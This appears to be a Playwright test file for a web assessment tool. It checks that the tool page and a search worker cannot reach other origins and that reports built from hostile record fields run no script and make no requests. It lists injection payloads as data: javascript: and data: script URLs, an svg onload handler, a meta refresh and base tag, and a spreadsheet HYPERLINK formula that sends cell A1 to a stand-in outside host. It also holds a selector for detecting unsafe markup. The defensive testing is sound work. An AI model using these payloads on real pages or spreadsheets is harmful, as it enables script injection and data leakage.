"""Nothing leaves: the page is refused any other origin, on a plain host; a report runs nothing."""

from __future__ import annotations

import shutil
from datetime import date
from typing import TYPE_CHECKING, Any

import pytest

from assessment.record import format as record_format
from assessment.show.report import report
from publishing.site import SITE
from tests.browser.server import serving
from tests.browser.tool_page import WORKER, ToolPage
from tests.python.builders import HOSTILE

if TYPE_CHECKING:
    from pathlib import Path

    from playwright.sync_api import Page

    from assessment.question_set.model import QuestionSet


def test_the_page_itself_reaches_no_other_origin_and_runs_no_text(window: Page, site_url: str) -> None:
    window.route(WORKER, lambda _route: None)
    tool = ToolPage(window, site_url + "tool/").open()
    tried = tool.page.evaluate(
        "(url) => fetch(url, { mode: 'no-cors' }).then(() => 'reached', String)",
        site_url.replace("127.0.0.1", "localhost"),
    )
    assert "Failed to fetch" in tried
    # The second timer is due after the first.
    tool.page.evaluate("() => new Promise((due) => { setTimeout('window.ran = true'); setTimeout(due, 9); })")
    assert tool.page.evaluate("() => window.ran") is None


# Stands in for the worker of the theme's search, started by the theme.
CURIOUS_SEARCH = """
fetch("ELSEWHERE", { mode: "no-cors" }).then(() => "reached", String)
  .then((said) => console.log(`the search: ${said}`));
"""


OUTCOME = {"as it is": "TypeError: Failed to fetch", "taken out": "reached"}


@pytest.mark.parametrize("module", OUTCOME)
def test_the_search_reaches_no_other_origin_either(window: Page, tmp_path: Path, module: str) -> None:
    """Without search.mjs it does, so the test can fail."""
    site = tmp_path / "site"
    shutil.copytree(SITE, site)
    (worker,) = (site / "assets" / "javascripts" / "workers").glob("search.*.js")
    if module == "taken out":
        (site / "assets" / "search.mjs").write_text("", "utf-8")
    with (
        serving(site) as url,
        window.expect_console_message(lambda message: message.text.startswith("the search:")) as heard,
    ):
        worker.write_text(CURIOUS_SEARCH.replace("ELSEWHERE", url.replace("127.0.0.1", "localhost")), "utf-8")
        window.goto(url)
    assert heard.value.text == f"the search: {OUTCOME[module]}"


# What somebody might put into a record to make the report do something: a field may only stand there.
HOSTILE_TEXTS = (
    HOSTILE,
    "javascript:document.title='ran'",
    "data:text/html,<script>document.title='ran'</script>",
    '=HYPERLINK("http://elsewhere.test/"&A1)',
    "<svg/onload=\"document.title='ran'\"><a href=javascript:document.title='ran'>here</a>",
    "<meta http-equiv=refresh content='0;url=http://elsewhere.test/'><base href=http://elsewhere.test/>",
    "\u202eright to left \u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627",
    "long" * 5_000,
)

TOO_WIDE = """() => [...document.querySelectorAll("body *")]
  .filter((one) => one.getBoundingClientRect().right > innerWidth + 1 && !one.closest("svg"))
  .map((one) => `${one.tagName} ${one.className}`)"""
UNSAFE = r"""() => [...document.querySelectorAll("*")].filter((one) =>
  ["SCRIPT", "IFRAME", "OBJECT", "BASE", "FORM", "IMG"].includes(one.tagName) ||
  one.getAttributeNames().some((name) => name.startsWith("on")) ||
  /^\s*(javascript|data:text.html)/i.test(one.getAttribute("href") ?? "")
).map((one) => one.outerHTML)"""


@pytest.mark.parametrize("text", HOSTILE_TEXTS, ids=range(len(HOSTILE_TEXTS)))
def test_a_report_of_a_hostile_record_runs_nothing_and_asks_for_nothing(
    window: Page, sample_data: dict[str, Any], question_set: QuestionSet, text: str
) -> None:
    """Opened with scripts allowed, so that it is the report that holds them off."""
    sample_data["partnership"]["name"] = text
    sample_data["partnership"]["words"] = dict.fromkeys(question_set.words, text[:200])
    sample_data["rounds"][-1]["name"] = text
    for answer in sample_data["rounds"][-1]["answers"].values():
        answer["note"] = text
    sample_data["rounds"][-1]["answers"][text] = {"rating": "red", "note": text}
    made = report(question_set, record_format.from_data(sample_data), date(2027, 3, 31))
    asked: list[str] = []
    dialogs: list[str] = []
    window.on("request", lambda request: asked.append(request.url))
    window.on("dialog", lambda dialog: dialogs.append(dialog.message))
    window.route(
        "http://report.test/*", lambda route: route.fulfill(body=made.html, content_type="text/html")
    )
    window.goto("http://report.test/report")
    # What a report could do by itself is due before this.
    window.evaluate("() => new Promise((due) => { requestIdleCallback(due, { timeout: 1000 }); })")
    assert window.url == "http://report.test/report"
    assert asked == ["http://report.test/report"]
    assert not dialogs
    assert window.title() != "ran"
    unsafe = window.evaluate(UNSAFE)
    assert not unsafe
    # However long a word is, the page does not become wider than the screen.
    assert not window.evaluate(TOO_WIDE)
    assert window.evaluate("() => document.body.textContent").count(text) > len(question_set.questions)
